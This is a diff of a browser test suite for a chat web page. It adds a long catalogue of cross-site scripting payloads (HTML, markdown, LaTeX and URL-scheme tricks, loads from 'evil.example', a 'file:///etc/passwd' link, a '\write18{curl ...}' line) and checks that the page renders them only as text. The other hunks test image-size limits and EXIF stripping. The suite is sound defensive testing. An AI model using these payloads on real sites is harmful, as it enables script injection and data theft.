@@ -12061,45 +12061,242 @@ def test_page_is_one_small_strict_file(page_relay, page_provider, page_tab):
     assert tab.tab.context.cookies() == []
 
 
-PAGE_HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned=2">
-[a](javascript:window.pwned=3) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>1</script>)
-[d](vbscript:x) <javascript:alert(1)> [e]( java\tscript:alert(1)) ![f](https://evil.example/i.png)
-[g](//evil.example) [h](/relative) <a href="javascript:alert(1)">x</a> <svg onload=alert(1)>
+# What tries to be more than text: each line stands alone.
+PAGE_ATTACKS = r"""
+<script>pwned=1</script>
+<script src="https://evil.example/x.js"></script>
+<SCRIPT/x>pwned=1</SCRIPT >
+<scr<script>ipt>pwned=1</scr</script>ipt>
+<script type=module>import "https://evil.example/x.js"</script>
+</article></div></main><script>pwned=1</script>
+--><script>pwned=1</script><!--
+]]><script>pwned=1</script>
+<!--><img src=x onerror=pwned=1>-->
+</textarea></title></style><img src=x onerror=pwned=1>
+<img src=x onerror=pwned=1>
+<img/src=x/onerror=pwned=1>
+<IMG SRC="https://evil.example/i.png">
+<img srcset="https://evil.example/i.png 2x">
+<image href=x onerror=pwned=1>
+<picture><source srcset="https://evil.example/i.png"><img></picture>
+<svg onload=pwned=1>
+<svg><script>pwned=1</script></svg>
+<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
+<svg><use href="data:image/svg+xml,<svg id=x><script>pwned=1</script></svg>#x"/></svg>
+<svg><image href="https://evil.example/i.png"/></svg>
+<svg><a xlink:href="javascript:pwned=1"><text y=9>x</text></a></svg>
+<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>
+<math href="javascript:pwned=1">x</math>
+<math><maction actiontype="statusline#https://evil.example">x</maction></math>
+<iframe src="javascript:pwned=1"></iframe>
+<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
+<iframe src="https://evil.example/"></iframe>
+<object data="data:text/html,<script>parent.pwned=1</script>"></object>
+<embed src="https://evil.example/x.swf">
+<applet code="https://evil.example/x.class">
+<frameset onload=pwned=1><frame src=x>
+<portal src="https://evil.example/">
+<link rel=stylesheet href="https://evil.example/x.css">
+<link rel=prefetch href="https://evil.example/">
+<link rel=dns-prefetch href="//evil.example">
+<meta http-equiv=refresh content="0;url=https://evil.example/">
+<meta http-equiv=refresh content="0;url=javascript:pwned=1">
+<base href="https://evil.example/">
+<style>@import "https://evil.example/x.css"; * { display: none }</style>
+<style>* { background: url(https://evil.example/i.png) }</style>
+<p style="background: url(https://evil.example/i.png)">x</p>
+<body onload=pwned=1 background="https://evil.example/i.png">
+<table background="https://evil.example/i.png"><td>x</table>
+<video src=x onerror=pwned=1></video>
+<video poster="https://evil.example/i.png"></video>
+<audio src="https://evil.example/a.mp3" autoplay></audio>
+<input autofocus onfocus=pwned=1>
+<select autofocus onfocus=pwned=1>
+<textarea autofocus onfocus=pwned=1>
+<keygen autofocus onfocus=pwned=1>
+<details open ontoggle=pwned=1>
+<marquee onstart=pwned=1>x</marquee>
+<div onpointerrawupdate=pwned=1 onmouseover=pwned=1>x</div>
+<a href="javascript:pwned=1">x</a>
+<a ping="https://evil.example/" href="#">x</a>
+<form action="javascript:pwned=1"><button>x</button></form>
+<form action="https://evil.example/"><input name=key></form>
+<form id=composer><input id=input></form>
+<button formaction="javascript:pwned=1">x</button>
+<isindex action="javascript:pwned=1">
+<template shadowrootmode=open><script>pwned=1</script></template>
+<noscript><p title="</noscript><img src=x onerror=pwned=1>">
+<xmp><img src=x onerror=pwned=1></xmp>
+<plaintext>
+<a id=state><a id=state name=conv>
+<b contenteditable accesskey=x onbeforecopy=pwned=1>x</b>
+<sub onclick=pwned=1>x</sub> <kbd style="color: red">x</kbd> <br onload=pwned=1>
+<sub><img src=x onerror=pwned=1></sub>
+<kbd><script>pwned=1</script></kbd>
+&lt;img src=x onerror=pwned=1&gt;
+&#60;script&#62;pwned=1&#60;/script&#62;
+&amp;lt;script&amp;gt;pwned=1
+\<script>pwned=1\</script>
+\u003cscript\u003epwned=1\u003c/script\u003e
++ADw-script+AD4-pwned=1
+{{constructor.constructor('pwned=1')()}} ${pwned=1} <%=pwned=1%> #{pwned=1}
+[a](javascript:pwned=1)
+[a](JaVaScRiPt:pwned=1)
+[a]( javascript:pwned=1 )
+[a](<javascript:pwned=1>)
+[a](java&#10;script:pwned=1)
+[a](javascript&colon;pwned=1)
+[a](&#x6A;avascript:pwned=1)
+[a](\javascript:pwned=1)
+[a](java%0ascript:pwned=1)
+[a](javascript://https://ok.example/%0apwned=1)
+[a](https:javascript:pwned=1)
+[a](view-source:javascript:pwned=1)
+[a](data:text/html,<script>pwned=1</script>)
+[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)
+[a](vbscript:pwned=1)
+[a](blob:https://evil.example/x)
+[a](file:///etc/passwd)
+[a](intent://evil.example#Intent;scheme=http;end)
+[a](//evil.example/)
+[a](/Demo#k=stolen)
+[a](#c=0123456789abcdef)
+[a](https://ok.example/"onmouseover="pwned=1)
+[a](https://ok.example/ "x\" onmouseover=\"pwned=1")
+[a](https://ok.example/'onclick='pwned=1')
+[<img src=x onerror=pwned=1>](https://ok.example/)
+[![a](javascript:pwned=1)](javascript:pwned=1)
+![a](https://evil.example/i.png)
+![a](javascript:pwned=1)
+![a](data:image/svg+xml,<svg/onload=pwned=1>)
+![" onerror="pwned=1](x)
+![a](https://evil.example/" onerror="pwned=1)
+[![a](https://evil.example/i.png)](https://ok.example/)
+<javascript:pwned=1>
+<https://ok.example/"onclick=pwned=1>
+<mailto:a@ok.example?body=<script>pwned=1</script>>
+https://ok.example/<script>pwned=1</script>
+https://ok.example/"onmouseover="pwned=1
+javascript:pwned=1
+[r]: javascript:pwned=1
+[r2]: https://ok.example/"onclick="pwned=1 "<script>"
+[r] [a][r2] [^n] [^"><script>pwned=1</script>]
+[^n]: <script>pwned=1</script>
+# <script>pwned=1</script> {#x onclick=pwned=1}
+> <script>pwned=1</script>
+- [x] <img src=x onerror=pwned=1>
+`<script>pwned=1</script>` ``<img src=x onerror=pwned=1>``
+**<img src=x onerror=pwned=1>** ~~<svg onload=pwned=1>~~ *[a](javascript:pwned=1)*
+    <script>pwned=1</script>
+$\href{javascript:pwned=1}{x}$
+$\url{javascript:pwned=1}$
+$\includegraphics{https://evil.example/i.png}$
+$\html{<img src=x onerror=pwned=1>}$ $\unicode{<script>pwned=1</script>}$
+$\htmlClass{x" onclick="pwned=1}{x}$ $\style{background: url(https://evil.example/)}{x}$
+$\class{x}{y}$ $\cssId{composer}{x}$ $\require{https://evil.example/x.js}$
+$\text{<script>pwned=1</script>}$
+$\operatorname{<img src=x onerror=pwned=1>}$
+$\color{red" onclick="pwned=1}{x}$ $\textcolor{url(https://evil.example/)}{x}$
+$\def\x{\x\x}\x$ $\newcommand{\frac}{<script>}$ $\csname script\endcsname$
+$\constructor$ $\__proto__$ $\toString{x}$ $\begin{constructor}x\end{constructor}$
+$$\begin{array}{c" onclick="pwned=1}x\end{array}$$
+$$\frac{</math><script>pwned=1</script>}{x}$$
+\(\xrightarrow{<svg onload=pwned=1>}\) \[\sqrt[<img src=x onerror=pwned=1>]{x}\]
+\input{/etc/passwd} \write18{curl https://evil.example}
+"""
 
-```html"><script>window.pwned=4</script>
-if (user \u202e { admin \u2066
+PAGE_HOSTILE = r"""[a](java
+script:pwned=1) [a](
+javascript:pwned=1)
+<img src=x
+onerror=pwned=1>
+
+| <iframe src=javascript:pwned=1> | [a](javascript:pwned=1) | [a](javascript:pwned=1) |
+|---|:-:|--:|
+| <object data=x> | <script>pwned=1</script> | RLO |
+| `|<script>pwned=1</script>|` | ![a](https://evil.example/i.png) | $\href{javascript:pwned=1}{x}$ |
+
+```html"><script>pwned=1</script>
+if (user RLO { admin \u2066 <script>pwned=1</script>
 ```
+```x" onclick="pwned=1
+```
+~~~<img/src=x/onerror=pwned=1>
+~~~
+```__proto__
+"</pre><script>pwned=1</script>"
+```
+```constructor
+```
+```js
+`${pwned=1}` "</code></pre><img src=x onerror=pwned=1>" // <script>pwned=1</script>
+```
+```svg
+<svg onload=pwned=1><script>pwned=1</script></svg>
+```
+```mermaid
+click A "javascript:pwned=1"
+```
+$$
+\begin{matrix} <img src=x onerror=pwned=1> & \href{javascript:pwned=1}{x} \end{matrix}
+$$
+<details open ontoggle=pwned=1>
 
-**[x](https://ok.example/"onmouseover="window.pwned=5)** <style>*{display:none}</style>
-| <iframe src=javascript:alert(1)> | b |
-|---|---|
-| <object data=x> | \u202egnp.exe |
+<script>pwned=1</script>
 
-""" + "[" * 3000 + "*" * 3000 + "`" * 999 + ">" * 500 + "\n" + "> " * 500 + "deep\n" + \
+</details>
+
+""".replace("RLO", "\u202e").replace(r"\u2066", "\u2066") + "\n\n".join(PAGE_ATTACKS.split("\n")) + \
+    "\x00<\x00script>pwned=1</script>\x1b]8;;https://evil.example\x07\ufeff<script>" + \
+    "[" * 3000 + "*" * 3000 + "`" * 999 + ">" * 500 + "\n" + "> " * 500 + "deep\n" + \
     "".join("  " * n + "- x\n" for n in range(200))
 
 
 def page_is_unharmed(tab):
     """Nothing of a hostile text has become more than text."""
     assert tab.tab.evaluate("window.pwned") is None
-    assert tab.tab.evaluate("document.querySelectorAll('#messages :is(script, img, iframe, "
-                            "object, style, svg:not(.icon))').length") == 0
-    assert tab.tab.evaluate("[...document.querySelectorAll('#messages *')].every((el) => "
-                            "[...el.attributes].every((a) => !/^on|^style$/.test(a.name)))")
+    assert tab.tab.evaluate("""[...document.querySelectorAll(`body :is(#chat script, iframe, object,
+        embed, style, link, meta, base, video, audio, template, maction, mglyph, image,
+        img:not([src^='data:image/']), svg:not(.icon), form:not(#composer, .editing)),
+        #messages :is(input, select, textarea)`)].map((el) => el.outerHTML)""") == []
+    assert tab.tab.evaluate(r"""[...document.querySelectorAll("#chat :not(#input)")].flatMap((el) =>
+        [...el.attributes].filter(({name, value}) => (name === "href"
+            ? !/^(https?:|mailto:|\/)/.test(value) || (value[0] === "/" && el.closest(".md"))
+            : /^on|^style$|src.|action|ping|background|poster|:|access|edit/.test(name))
+            || (name === "id" && el.closest(".md"))).map(({name}) => name))""") == []
+    assert tab.tab.evaluate("performance.getEntriesByType('resource').map((e) => e.name)"
+                            ".filter((name) => !name.startsWith(location.origin))") == []
     assert tab.tab.evaluate("violations") == []
 
 
 @in_each_browser
-def test_page_hostile_reply_stays_text(page_provider, page_tab):
-    tab = page_tab().open()
-    tab.say("<img src=x onerror=window.pwned=6>")
-    page_provider.next().done(PAGE_HOSTILE)
+def test_page_hostile_text_stays_text_wherever_it_comes_from(
+        page_relay, page_provider, page_tab):
+    attack = "<img src=x onerror=pwned=1>"
+    page_relay.change("Demo", operator=attack, comment=attack, suggestions=[attack])
+    tab = page_tab().open("/")
+    tab.shows(attack, ".card")
+    tab.tab.click(".card a")
+    tab.shows(attack, ".suggestions")
+    page_give(tab, "drop", (attack + "\u202etxt.exe", "", PAGE_HOSTILE.encode()))
+    tab.say(PAGE_HOSTILE)
+    job = page_provider.next()
+    job.push({"reasoning": PAGE_HOSTILE}, {"tool_calls": [
+        {"index": 0, "function": {"name": attack, "arguments": PAGE_HOSTILE}}]})
+    for n in range(0, len(PAGE_HOSTILE), 400):           # half an attack is one, too
+        job.push(*re.findall("(?s).{1,7}", PAGE_HOSTILE[n:n + 400]))
+    job.done({"finish_reason": attack})
     tab.idle()
-    tab.shows("<iframe src=javascript:alert(1)>")
-    links = tab.tab.evaluate("[...document.querySelectorAll('.md a')].map((a) => a.href)")
-    assert links and all(re.match("https://(evil|ok).example/", link) for link in links)
-    assert not any("relative" in link or link == "https://evil.example/" for link in links)
+    tab.shows("<iframe src=javascript:pwned=1>")
+    tab.tab.evaluate("document.querySelectorAll('.message details').forEach((d) => d.open = true)")
     tab.shows("U+202E", ".code pre")
+    links = tab.tab.evaluate("[...document.querySelectorAll('.md a')].map((a) => a.href)")
+    assert links and all(re.match("(https://|mailto:a@)(evil|ok).example/?", link) for link in links)
+    page_is_unharmed(tab)
+    tab.expects_trouble = True
+    tab.say("And now?")
+    page_provider.next().fail(PAGE_HOSTILE[:2000])
+    tab.shows("The model could not answer:", ".trouble")
     page_is_unharmed(tab)
 
 
@@ -12297,6 +12494,91 @@ def test_page_folds_text_files_and_refuses_what_it_cannot_read(page_provider, pa
     tab.shows("# Hi", ".message.user pre")
 
 
+def page_head(kind, width, height):
+    """The first bytes of an image of that size."""
+    big, little = struct.pack(">2I", width, height), struct.pack("<2I", width, height)
+    return {
+        "png": page_png(1, 1)[:16] + big,
+        "jpeg": b"\xff\xd8\xff\xe0\0\x10" + b"JFIF" + b"\0" * 10 + b"\xff\xc2\0\x11\x08"
+                + struct.pack(">2H", height, width),
+        "gif": b"GIF89a" + struct.pack("<2H", width, height),
+        "bmp": b"BM" + b"\0" * 16 + little,
+        "webp": b"RIFF\0\0\0\0WEBPVP8X" + b"\0" * 8 + struct.pack("<I", width - 1)[:3]
+                + struct.pack("<I", height - 1)[:3],
+        "webp lossy": b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 10 + struct.pack("<2H", width, height),
+        "webp lossless": b"RIFF\0\0\0\0WEBPVP8L\0\0\0\0\x2f"
+                         + struct.pack("<I", width - 1 | height - 1 << 14),
+        "heic": b"\0\0\0\x18ftypheic" + b"\0" * 12 + b"ispe\0\0\0\0" + struct.pack(">2I", 9, 9)
+                + b"ispe\0\0\0\0" + big}[kind] + b"\0" * 20
+
+
+@in_each_browser
+def test_page_says_why_it_takes_no_file_and_what_to_do(page_tab):
+    """An image may unfold to gigabytes: browsers stood still for it, for up to 20 s."""
+    kinds = ("png", "jpeg", "gif", "bmp", "webp", "webp lossy", "webp lossless", "heic")
+    files = [(kind, page_head(kind, 16000, 12000), " has 192 million pixels") for kind in kinds]
+    files += [
+        ("x\u202ey", b"", "xy is empty"), ("tale", b"Gr\xfc\xdfe", "plain text (UTF-8)"),
+        ("photo", b"\0\0\0\x18ftypheic\0\0\0\0", "Save it as JPEG"),
+        ("cut", b"\x89PNG\r\n\x1a\n cut off", "Save it as JPEG"),
+        ("big", b"x" * (2 << 20) + b"x", "big is too large")]
+    tab = page_tab().open()
+    for name, data, words in files:
+        page_give(tab, "drop", (name, "", data))
+        tab.shows(words, ".toast:last-child")
+    assert not tab.tab.query_selector("#files .file")
+
+
+PAGE_PHOTO = base64.b64decode(          # 32 x 16, the left half red, stored lying on its side
+    "/9j/4AAQSkZJRgABAQAAAQABAAD/4QA2RXhpZgAATU0AKgAAAAgAAgEPAAIAAAAHAAAAJgESAAMAAAABAAYAAAAA"
+    "AABTRUNSRVQAAP/bAEMAGxIUFxQRGxcWFx4cGyAoQisoJSUoUTo9MEJgVWVkX1VdW2p4mYFqcZBzW12FtYaQnqOr"
+    "ratngLzJuqbHmairpP/bAEMBHB4eKCMoTisrTqRuXW6kpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSk"
+    "pKSkpKSkpKSkpKSkpKSkpP/AABEIACAAEAMBIgACEQEDEQH/xAAWAAEBAQAAAAAAAAAAAAAAAAAABAX/xAAUEAEA"
+    "AAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABgP/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMB"
+    "AAIRAxEAPwDCAJEVwAeVP//Z")
+
+
+@in_each_browser
+def test_page_sends_photos_upright_and_without_the_place_where_they_were_taken(
+        page_provider, page_tab):
+    assert b"Exif" in PAGE_PHOTO and b"SECRET" in PAGE_PHOTO
+    tab = page_tab().open()
+    page_give(tab, "drop", ("a wrong name.txt", "text/plain", PAGE_PHOTO))
+    tab.tab.wait_for_selector("#files img")
+    tab.tab.click("#send")
+    url = page_provider.next().request["messages"][0]["content"][0]["image_url"]["url"]
+    assert tab.tab.evaluate("""async (src) => {
+        const image = new Image(), context = document.createElement("canvas").getContext("2d");
+        image.src = src;
+        await image.decode();
+        context.drawImage(image, 0, 0);
+        const [red, , blue] = context.getImageData(2, 8, 1, 1).data;
+        return [image.width, image.height, red > 200, blue < 50]; }""", url) == [32, 16, True, True]
+    data = base64.b64decode(url.partition(",")[2])
+    assert b"Exif" not in data and b"SECRET" not in data
+
+
+def test_page_says_what_to_do_with_a_folder(page_tab, tmp_path):
+    tab = page_tab().open()
+    x, y = tab.tab.evaluate("""() => { const box = document.querySelector("#input")
+        .getBoundingClientRect(); return [box.x + 9, box.y + 9]; }""")
+    devtools = tab.tab.context.new_cdp_session(tab.tab)
+    for kind in ("dragEnter", "dragOver", "drop"):
+        devtools.send("Input.dispatchDragEvent", {"type": kind, "x": x, "y": y, "data": {
+            "items": [], "files": [str(tmp_path)], "dragOperationsMask": 1}})
+    tab.shows("If it is a folder, add the files in it", ".toast")
+
+
+def test_page_reads_texts_as_windows_writes_them(page_provider, page_tab):
+    tab = page_tab().open()
+    page_give(tab, "drop", *[(encoding + ".txt", "", "\ufeffGr\u00fc\u00dfe\r\n2".encode(encoding))
+                             for encoding in ("utf-16-le", "utf-16-be", "utf-8")])
+    tab.eventually("document.querySelectorAll('#files .file.text').length === 3")
+    tab.tab.click("#send")
+    content = page_provider.next().request["messages"][0]["content"]
+    assert content.count("```txt\nGr\u00fc\u00dfe\n2\n```") == 3
+
+
 def test_page_sends_a_file_with_many_backticks(page_provider, page_tab):
     tab = page_tab().open()
     page_give(tab, "drop", ("ticks.md", "text/markdown", b"`` ` " * 200000 + b"`````"))
@@ -12462,7 +12744,7 @@ def test_page_hostile_share_link_stays_text(page_relay, page_provider, page_tab)
         {"role": PAGE_ODD, "content": "x"}, {"role": "constructor", "content": "x"}]}
     tab = page_tab()
     tab.tab.goto(page_relay.url + page_packed(json.dumps(said).encode()))
-    tab.shows("<iframe src=javascript:alert(1)>")
+    tab.shows("<iframe src=javascript:pwned=1>")
     page_is_unharmed(tab)
 
 
@@ -12663,7 +12945,7 @@ def test_page_takes_nothing_bad_from_an_imported_file(page_provider, page_tab):
     tab.tab.click(".list .pick >> text=Loop")
     tab.shows("round", ".message.user")
     tab.tab.click(".list .pick >> text=<b>")
-    tab.shows("<iframe src=javascript:alert(1)>")
+    tab.shows("<iframe src=javascript:pwned=1>")
     page_is_unharmed(tab)
     assert not [r for r in tab.requests if r.method == "POST"]   # nothing was "live"
 
@@ -12998,6 +13280,29 @@ def test_page_works_where_the_browser_forbids_storage(page_relay, page_provider,
     tab.tab.click("#new")
     page_talk(tab, page_provider, "Again", "Hi again")
     assert len(tab.tab.query_selector_all(".list .pick")) == 2
+
+
+PAGE_SILENT_STORE = """IDBFactory.prototype.open = () => new EventTarget();
+const setTimer = setTimeout;
+window.setTimeout = (work, ms) => setTimer(work, ms === 10000 ? 1 : ms);"""
+PAGE_FULL_STORE = """IDBObjectStore.prototype.put = () => {
+    throw new DOMException("full", "QuotaExceededError"); };"""
+
+
+@pytest.mark.parametrize("script, words", [
+    (PAGE_SILENT_STORE, "stores nothing"), (PAGE_FULL_STORE, "storage is full")],
+    ids=["silent", "full"])
+def test_page_works_where_the_store_is_silent_or_full(page_provider, page_tab, script, words):
+    tab = page_tab()
+    tab.tab.context.add_init_script(script)
+    tab.open()
+    page_talk(tab, page_provider, "Hello", "Hi")
+    tab.shows(words, ".toast")
+    tab.tab.click("#new")
+    tab.tab.click(".list .pick")
+    tab.shows("Hi")
+    page_talk(tab, page_provider, "Again", "Hi again")
+    assert len(tab.tab.query_selector_all(".message")) == 4
 
 
 def test_page_leaves_out_what_it_cannot_show_of_its_store(page_provider, page_tab):
